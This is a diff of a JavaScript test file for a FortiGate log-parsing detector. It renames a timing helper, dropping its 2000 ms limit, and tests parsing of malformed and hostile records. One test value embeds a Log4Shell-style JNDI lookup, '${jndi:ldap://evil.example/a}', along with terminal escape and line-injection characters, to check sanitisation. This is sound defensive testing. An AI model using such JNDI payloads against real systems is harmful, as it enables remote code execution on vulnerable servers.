@@ -2,7 +2,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import fortigate from '../../src/detectors/fortigate.js';
-import { fastEnough, fixtureLine } from './helpers.js';
+import { finishes, fixtureLine } from './helpers.js';
 import { OTHER_FORMATS, alertOf, assertOthersSniffLow, contextOf, holdsContract, junkHoldsContract, reasonOf, sniff } from './net-helpers.js';
 
 // Records (test/fixtures/samples/fortigate/) written after the FortiOS Log Message Reference (5.6 … 7.4): field names and value sets per log id.
@@ -130,10 +130,10 @@ test('malformed and hostile records', () => {
   assert.match(reasonOf(fortigate, 'logid="0000000013" type="weird"'), /log type "weird"/);
   assert.match(reasonOf(fortigate, 'date=2024-99-99 time=99:00:00 logid="0000000013" type="traffic"'), /not a valid time/);
   const big = 'A'.repeat(1 << 20);
-  fastEnough(2000, () => holdsContract(fortigate, `${IPS} msg="${big}"`));
-  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" subtype="ips" attack="${big}`));
-  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" ${'a="\\'.repeat(100000)}`));
-  fastEnough(2000, () => holdsContract(fortigate, `logid="0419016384" type="utm" ${'k=v '.repeat(100000)}`));
+  finishes(() => holdsContract(fortigate, `${IPS} msg="${big}"`));
+  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" subtype="ips" attack="${big}`));
+  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" ${'a="\\'.repeat(100000)}`));
+  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" ${'k=v '.repeat(100000)}`));
   const evil = alertOf(fortigate, IPS.replace('attack="Apache.Log4j.Error.Log.Remote.Code.Execution"', 'attack="${jndi:ldap://evil.example/a}\u0000\u001b[2J\r\nFAKE"'));
   assert.equal(evil.title, '${jndi:ldap://evil.example/a}[2J\nFAKE');
   const unbalanced = alertOf(fortigate, IPS.replace('msg="applications3:', 'msg="unterminated'));
